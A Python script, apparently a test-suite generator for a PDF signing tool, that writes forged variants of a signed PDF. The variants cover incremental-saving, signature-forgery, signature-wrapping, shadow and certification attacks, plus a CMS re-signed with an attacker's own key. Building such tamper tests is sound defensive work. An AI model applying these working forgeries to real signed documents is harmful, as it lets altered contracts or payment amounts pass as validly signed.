#!/usr/bin/env python3
"""mutations.py SIGNED.pdf OUTDIR -- writes attack variants of a sto-signed PDF, one per
pdf-insecurity.org class (and a few beyond), for the tamper suite. Standard library only.
Object numbers are read from the file (page 1's content, /Root, /Size, last startxref)."""
import pathlib, re, subprocess, sys, tempfile, zlib

src = pathlib.Path(sys.argv[1]).read_bytes()
out = pathlib.Path(sys.argv[2]); out.mkdir(parents=True, exist_ok=True)
size = int(re.findall(rb'/Size (\d+)', src)[-1])
root = int(re.findall(rb'/Root (\d+) 0 R', src)[-1])
info = int(re.findall(rb'/Info (\d+) 0 R', src)[-1])
trailer_id = re.findall(rb'/ID \[<[0-9A-F]+> <[0-9A-F]+>\]', src)[-1]
startxref = int(re.findall(rb'startxref\n(\d+)\n%%EOF', src)[-1])
brs = [m for m in re.finditer(rb'/ByteRange \[0 (\d+) (\d+) (\d+)\s*\]', src)]
last_b, last_c = int(brs[-1].group(1)), int(brs[-1].group(2))

def update(objects, extra_trailer=b'', xref=True):
    """A classic incremental update appending `objects` {num: bytes} to src."""
    body = bytearray(src)
    offsets = {}
    for num, obj in objects.items():
        body += b'\n'
        offsets[num] = len(body)
        body += b'%d 0 obj\n' % num + obj + b'\nendobj\n'
    xref_at = len(body)
    if xref:
        body += b'xref\n0 1\n0000000000 65535 f \n'
        for num in sorted(offsets):
            body += b'%d 1\n%010d 00000 n \n' % (num, offsets[num])
    new_size = max([size] + [n + 1 for n in objects])
    body += b'trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R %s /Prev %d%s >>\nstartxref\n%d\n%%%%EOF\n' % (
        new_size, root, info, trailer_id, startxref, extra_trailer, xref_at if xref else startxref)
    return bytes(body)

def stream(text):
    data = zlib.compress(text)
    return b'<< /Length %d /Filter /FlateDecode >>\nstream\n' % len(data) + data + b'\nendstream'

def same_length(old, new):
    assert len(old) == len(new), (old, new)
    i = src.rfind(old)
    assert i >= 0, old
    return src[:i] + new + src[i + len(old):]

content_obj = int(re.search(rb'\n\d+ 0 obj\n<< /Contents (\d+) 0 R [^\n]*/Type /Page >>', src).group(1))  # page 1's content
fake = stream(b'BT /F1 24 Tf 72 700 Td (Bijdrage: EUR 1.000.000) Tj ET')
gap_hex = src[last_b + 1:last_c - 1]
der_len = len(gap_hex.rstrip(b'0'))  # hex digits of the DER (zero padding stripped, roughly)
der_len += der_len % 2

m = {}
# --- Incremental Saving Attack (Mladenov et al. 2019): an unsigned revision after the last signature
m['isa-1-page-content-override'] = update({content_obj: fake})
m['isa-2-objects-without-xref'] = src + b'%d 0 obj\n' % content_obj + fake + b'\nendobj\n'  # relies on repair
m['isa-3-trailer-without-xref'] = update({content_obj: fake}, xref=False)
m['isa-4-new-info'] = update({info: b'<< /Title (Vervalst) >>'})
m['isa-5-trailing-newline'] = src + b'\n'
m['isa-6-prepended-junk'] = b'%junk\n' + src  # readers accept junk before %PDF-
# --- Universal Signature Forgery: the last signature's dictionary made unverifiable
m['usf-1-contents-zeroed'] = src[:last_b + 1] + b'0' * len(gap_hex) + src[last_c - 1:]
m['usf-2-byterange-zeroed'] = same_length(brs[-1].group(0), b'/ByteRange [0 0 0 0]'.ljust(len(brs[-1].group(0))))
at = src.rfind(b'/Contents <')
m['usf-3-contents-key-renamed'] = src[:at] + b'/Contentz <' + src[at + 11:]
m['usf-4-subfilter-changed'] = same_length(b'/SubFilter /ETSI.CAdES.detached /M', b'/SubFilter /ETSI.CAdES.detachex /M')
# --- Signature Wrapping: objects in the unsigned /Contents gap (CMS kept, the padding reused)
m['swa-1-objects-in-contents-gap'] = src[:last_b + 1 + der_len] + (
    b'> >>\nendobj\n%d 0 obj\n(injected)\nendobj\n%%<' % size).ljust(len(gap_hex) - der_len, b'0') + src[last_c - 1:]
m['swa-2-lowercase-hex'] = src[:last_b + 1] + gap_hex.lower() + src[last_c - 1:]  # harmless, but not what sto writes
# --- Shadow attacks (Mainka et al. 2021)
m['shadow-hide-xref-only'] = update({})  # an update with no objects: xref + trailer only
#   hide: an xref-only update re-pointing page 1's content to another object already in the signed part
info_off = src.find(b'\n%d 0 obj\n' % info) + 1
body = src + b'\nxref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n' % (content_obj, info_off)
m['shadow-hide-repoint-object'] = body + b'trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (
    size, root, info, trailer_id, startxref, len(src) + 1)
#   replace via overwrite: the first signature's appearance XObject redefined (other name shown)
ap = int(re.search(rb'/V \d+ 0 R /AP << /N (\d+) 0 R', src).group(1))
bbox = re.search(rb'\n%d 0 obj\n<< /Type /XObject /Subtype /Form /BBox (\[[^\]]*\]) /Resources (<< /Font << /F1 \d+ 0 R >> >>)' % ap, src)
m['shadow-replace-appearance'] = update({ap: stream(b'BT /F1 6 Tf 2 2 Td <0041> Tj ET').replace(
    b'<< /Length', b'<< /Type /XObject /Subtype /Form /BBox ' + bbox.group(1) + b' /Resources ' + bbox.group(2) + b' /Length')})
#   replace via overwrite: the embedded font redefined (glyphs can be swapped)
font = int(re.search(rb'/StoRegular (\d+) 0 R', src).group(1))
m['shadow-replace-font'] = update({font: b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'})
#   hide-and-replace: a new catalog (same /Pages, no /AcroForm) and the trailer's /Root pointed at it
pages = int(re.search(rb'\n%d 0 obj\n<<[^\n]*/Pages (\d+) 0 R' % root, src).group(1))
body = update({size: b'<< /Type /Catalog /Pages %d 0 R >>' % pages})
cut = body.rfind(b'trailer')
m['shadow-hide-and-replace-new-root'] = body[:cut] + body[cut:].replace(b'/Root %d 0 R' % root, b'/Root %d 0 R' % size)
# --- Certification attacks (Mainka et al. 2021, EAA/SSA): an annotation over page 1's text
page_num, page_dict = re.search(rb'\n(\d+) 0 obj\n(<< /Contents %d 0 R [^\n]*/Type /Page >>)' % content_obj, src).groups()
m['eaa-freetext-annotation'] = update({
    size: b'<< /Type /Annot /Subtype /FreeText /Rect [72 680 400 720] /Contents (EUR 1.000.000) /DA (/Helv 20 Tf) /P %s 0 R >>' % page_num,
    int(page_num): page_dict.replace(b'/Type /Page >>', b'/Annots [ %d 0 R ] /Type /Page >>' % size)})
# --- Beyond the classes
t = src.find(b'/Title (') + 8  # one byte of revision 0 (the /Info title), same length
m['rev0-byte-changed'] = src[:t] + bytes([src[t] ^ 0x20]) + src[t + 1:]
prev_b, prev_c = int(brs[-2].group(1)), int(brs[-2].group(2))  # last CMS replaced by the one before
m['cms-swapped-with-previous'] = src[:last_b + 1] + src[prev_b + 1:prev_c - 1].ljust(len(gap_hex), b'0')[:len(gap_hex)] + src[last_c - 1:]
#   a CMS over exactly the right bytes, by a key and CA of the attacker's own (openssl on PATH)
with tempfile.TemporaryDirectory() as d:
    run = lambda *a: subprocess.run(a, cwd=d, check=True, capture_output=True)
    run('openssl', 'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', 'k',
        '-out', 'c', '-subj', '/CN=Mallory', '-days', '30')
    pathlib.Path(d, 'in').write_bytes(src[:last_b] + src[last_c:])
    run('openssl', 'cms', '-sign', '-binary', '-md', 'sha256', '-in', 'in', '-signer', 'c', '-inkey', 'k', '-outform', 'DER', '-out', 'p7s')
    forged = pathlib.Path(d, 'p7s').read_bytes().hex().upper().encode()
m['cms-forged-own-key'] = src[:last_b + 1] + forged.ljust(len(gap_hex), b'0') + src[last_c - 1:]
for name, data in m.items():
    (out / (name + '.pdf')).write_bytes(data)
print(len(m), 'mutations in', out)
